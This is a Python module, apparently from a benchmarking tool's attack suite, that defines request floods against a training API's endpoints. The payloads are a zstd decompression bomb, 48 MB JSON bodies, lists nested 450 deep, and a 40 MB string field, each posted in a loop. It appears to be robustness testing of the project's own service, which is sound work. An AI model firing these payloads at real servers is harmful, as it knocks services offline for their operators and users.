"""Bodies that are small to send and large to read, or just large."""

import json
from multiprocessing.synchronize import Event

from tinkerbell.cli.bench.attacks.target import Caller, Target

BODY_BYTES = 48 * 1024 * 1024 - 4096
NUM_EMPTY = 25_000_000
DEPTH = 450
PROTOBUF = "application/x-protobuf"


def zstd_bomb(target: Target, stop: Event) -> None:
    """5 KB of zstd that are a protobuf with 25 million empty data."""
    import zstandard

    empty_datum = b"\x1a\x00"
    bomb = zstandard.ZstdCompressor().compress(empty_datum * NUM_EMPTY)
    headers = {"Content-Encoding": "zstd"}
    caller = Caller(target)
    while not stop.is_set():
        caller.call("POST", "/api/v1/forward_backward", bomb, PROTOBUF, **headers)


def many_lists(target: Target, stop: Event) -> None:
    """48 MB of [] in user_metadata, which may have 64 KiB."""
    body = b'{"sdk_version": "0.38.0", "user_metadata": {"a": [' + b"[]," * (BODY_BYTES // 3 - 32) + b"[]]}}"
    _post(target, stop, "/api/v1/create_session", body)


def deep_lists(target: Target, stop: Event) -> None:
    """Metadata nested 450 deep."""
    body = b'{"sdk_version": "0.38.0", "user_metadata": {"a": ' + b"[" * DEPTH + b"]" * DEPTH + b"}}"
    _post(target, stop, "/api/v1/create_session", body)


def large_bodies(target: Target, stop: Event) -> None:
    """Valid bodies of 48 MB."""
    tokens = [7] * 512
    datum = json.dumps({"tokens": tokens, "targets": tokens}).encode()
    body = b'{"data": [' + b", ".join([datum] * (BODY_BYTES // (len(datum) + 2) - 1)) + b"]}"
    _post(target, stop, f"/v1/adapters/{target.adapter}/fwdbwd", body)


def echoed_body(target: Target, stop: Event) -> None:
    """A text of 40 MB where a short word is wanted."""
    body = b'{"lora": {"rank": "' + b"x" * (40 * 1024 * 1024) + b'"}}'
    _post(target, stop, "/v1/adapters", body)


def _post(target: Target, stop: Event, path: str, body: bytes) -> None:
    caller = Caller(target)
    while not stop.is_set():
        caller.call("POST", path, body)
